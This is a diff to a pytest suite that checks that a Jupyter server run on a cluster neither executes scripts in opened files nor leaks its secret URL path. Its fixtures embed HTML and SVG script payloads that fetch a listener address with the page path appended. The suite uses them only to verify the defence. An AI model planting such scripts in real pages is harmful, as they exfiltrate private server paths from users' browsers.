@@ -9,10 +9,11 @@ import signal
 import subprocess
 import time
 
+from browser import needs_chromium
 import pytest
 from conftest import ROOT
 from guide.terminal import Terminal
-from jupyter_server import PATIENCE, let_in, literals, rows
+from jupyter_server import PATIENCE, Ssh, browser, let_in, listens, literals, rows
 from triton import PROMPTS, Triton, cluster
 
 FACTS = cluster.facts()
@@ -266,6 +267,61 @@ def test_cookies_are_for_the_path_of_the_server_which_it_tells_nobody(triton, se
     for other in ("/", "/lab", "/login", "/api", "/api/contents", "/static/favicon.ico", f"/x{path}", path[:-2], "//", "/%2e/"):
         said = triton.run("login", f"curl --silent --include --path-as-is {shlex.quote(origin + other)}", user).stdout
         assert said.startswith("HTTP/1.1 404 ") and path.strip("/") not in said, said
+
+
+OF_SOMEBODY = {
+    "page.html": """<title>a page</title><p>words</p><img src="{there}" referrerpolicy="unsafe-url"><a href="{there}" referrerpolicy="unsafe-url">a link</a>
+                    <script>document.title = "it runs"; fetch("{there}" + location.pathname, {{mode: "no-cors"}})</script>""",
+    "picture.svg": """<svg xmlns="http://www.w3.org/2000/svg" width="30" height="30"><title>a page</title><rect width="30" height="30"/>
+                      <script>document.title = "it runs"; fetch("{there}" + location.pathname, {{mode: "no-cors"}})</script></svg>""",
+    "page.ipynb": """{{"cells": [{{"cell_type": "markdown", "metadata": {{}}, "source": "<script>document.title = 'it runs'</script>"}}], "metadata": {{}}, "nbformat": 4,
+                      "nbformat_minor": 4}}"""}
+
+
+@needs_chromium
+@pytest.mark.claims("A file that is opened in a tab of such a server runs no script.",
+                    "A file that you open in a tab of the server runs no script, and so does not read that path.",
+                    "JupyterLab's own viewer shows HTML files without scripts too, until you press :guilabel:`Trust HTML`:")
+def test_a_file_in_a_tab_runs_no_script_and_tells_nobody_the_path(triton, server, tmp_path):
+    """Nor does it send that path along with a picture or a link; and what has no script is shown as ever."""
+    from playwright.sync_api import sync_playwright
+
+    there, picture = "http://localhost:9", "import numpy, matplotlib.image as image; image.imsave('dot.png', numpy.zeros((30, 40))); image.imsave('dot.pdf', numpy.zeros((30, 40)))"
+    for name, text in OF_SOMEBODY.items():
+        triton.write("login", f"~/{name}", text.format(there=there), server.user)
+    triton.run("login", shlex.join([f"{CENTRAL}/bin/python", "-c", picture]), server.user)
+    let_in(triton, server.user, ["laptop"])
+    base, _, token = server.said["forward_url"].partition("lab?")
+    with Ssh(triton, "laptop", server.user, f"-N {server.said['forward'].removeprefix('ssh ')}"), sync_playwright() as playwright:
+        listens(triton, "laptop", FACTS["proxy"]["example"])
+        with browser(playwright, triton, tmp_path) as chromium:
+            context = chromium.new_context()
+            tab, asked = context.new_page(), []
+            context.on("request", lambda request: asked.append((request.url, request.headers.get("referer", ""))) if request.url.startswith(there) else None)
+            tab.goto(f"{base}lab?{token}")
+            tab.wait_for_selector(".jp-Launcher-body")
+            [xsrf] = [cookie["value"] for cookie in context.cookies() if cookie["name"] == "_xsrf"]
+            titles = {}
+            for name in ("files/page.html", "view/page.html", "files/picture.svg", "nbconvert/html/page.ipynb"):
+                assert tab.goto(f"{base}{name}?_xsrf={xsrf}").status == 200
+                tab.wait_for_timeout(1000)
+                titles[name] = tab.title()
+            assert titles == {"files/page.html": "a page", "view/page.html": "page.html", "files/picture.svg": "a page", "nbconvert/html/page.ipynb": "page"}
+            tab.goto(f"{base}files/page.html?_xsrf={xsrf}")
+            tab.get_by_text("a link").click()
+            tab.wait_for_timeout(500)
+            assert set(asked) == {(f"{there}/", "")}
+            tab.goto(f"{base}files/dot.png?_xsrf={xsrf}")
+            assert tab.evaluate("document.querySelector('img').naturalWidth") == 40
+            assert tab.goto(f"{base}files/dot.pdf?_xsrf={xsrf}").status == 200
+            tab.goto(f"{base}lab/tree/dot.png?reset")
+            tab.wait_for_function("document.querySelector('.jp-ImageViewer img')?.naturalWidth == 40")
+            tab.goto(f"{base}lab/tree/page.html?reset")
+            tab.frame_locator("iframe").get_by_text("words").wait_for()
+            tab.get_by_text("Trust HTML").wait_for()
+            with tab.expect_download() as download:
+                tab.evaluate("address => Object.assign(document.createElement('a'), {href: address, download: ''}).click()", f"{base}files/page.html?download=1&_xsrf={xsrf}")
+            assert download.value.suggested_filename == "page.html" and download.value.failure() is None
 
 
 WHO_SENDS_MUCH = """
